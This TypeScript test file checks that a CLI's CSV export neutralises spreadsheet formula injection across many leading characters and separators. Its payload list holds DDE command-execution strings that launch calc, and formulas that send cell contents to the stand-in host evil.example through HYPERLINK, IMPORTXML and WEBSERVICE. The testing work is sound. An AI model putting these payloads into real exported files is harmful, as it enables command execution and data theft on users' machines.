import { describe, expect, test } from "vitest";
import { catalogue } from "#content";
import { harmless } from "../../src/cli/csv.ts";
import { tableOf } from "../../src/cli/table.ts";
import { hostileDocument } from "./hostile.ts";

/** What spreadsheets have run, from reports of flaws in what was to keep them from it. */
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://evil.example?leak="&A1,"Erreur")',
  '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "%0A-1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "﹦1+1",
];
/** What may stand before, that one program or another leaves out. */
const before = [
  ["nothing", ""],
  ["a blank", " "],
  ["a no-break space", "\u00a0"],
  ["a narrow no-break space", "\u202f"],
  ["an ideographic space", "\u3000"],
  ["a tab", "\t"],
  ["a carriage return", "\r"],
  ["a line end", "\n"],
  ["a second line", "Commune\n"],
  ["a second line of Windows, indented", "Commune\r\n   "],
  ["a line separator", "Commune\u2028"],
  ["a vertical tab", "Commune\u000b"],
  ["a next line", "Commune\u0085"],
  ["the separator of the other language", "Commune;"],
  ["the separator, and blanks", "Commune,  "],
  ["the separator of a paste", "Commune\t"],
  ["a byte order mark", "\ufeff"],
  ["a letter nobody sees", "\u200b"],
  ["a turn of direction", "\u202e"],
  ["a soft hyphen", "\u00ad"],
  ["a NUL", "\u0000"],
  ["a quotation mark", '"'],
  ["a quotation mark, after a separator", 'Commune;"'],
  ["quotation marks that close at once", '""'],
] as const;

/** The fields that a program finds which takes a sign for the separator, with or without regard for quotation marks. */
const fieldsOf = (text: string, separator: string): string[] =>
  text.split(/[\r\n\v\f\u0085\u2028\u2029]/).flatMap((line) => line.split(separator));
const isLive = (field: string): boolean => /^[\s\p{C}"]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u.test(field);

describe.each(before)("after %s", (_, start) => {
  test.each(formulas.filter((formula) => !formula.startsWith("%")))(
    "%s is no formula, whatever separates",
    (formula) => {
      const text = harmless(start + formula);
      for (const separator of [";", ",", "\t"]) {
        const live = fieldsOf(start, separator).length;
        expect([text, fieldsOf(text, separator).slice(0, live).filter(isLive)]).toEqual([text, []]);
      }
    },
  );
});

test("no cell of a table of diagnoses is a formula, its own numbers apart", () => {
  for (const lang of ["fr", "en"] as const) {
    const table = tableOf([{ file: "=1+1.json", document: hostileDocument() }], catalogue, lang);
    const fields = fieldsOf(table, lang === "fr" ? ";" : ",").map((field) => field.replace(/^"/, ""));
    expect(fields.length).toBeGreaterThan(20);
    expect(fields.filter((field) => isLive(field) && !/^-?\d+([.,]\d+)?$/.test(field))).toEqual([]);
  }
});
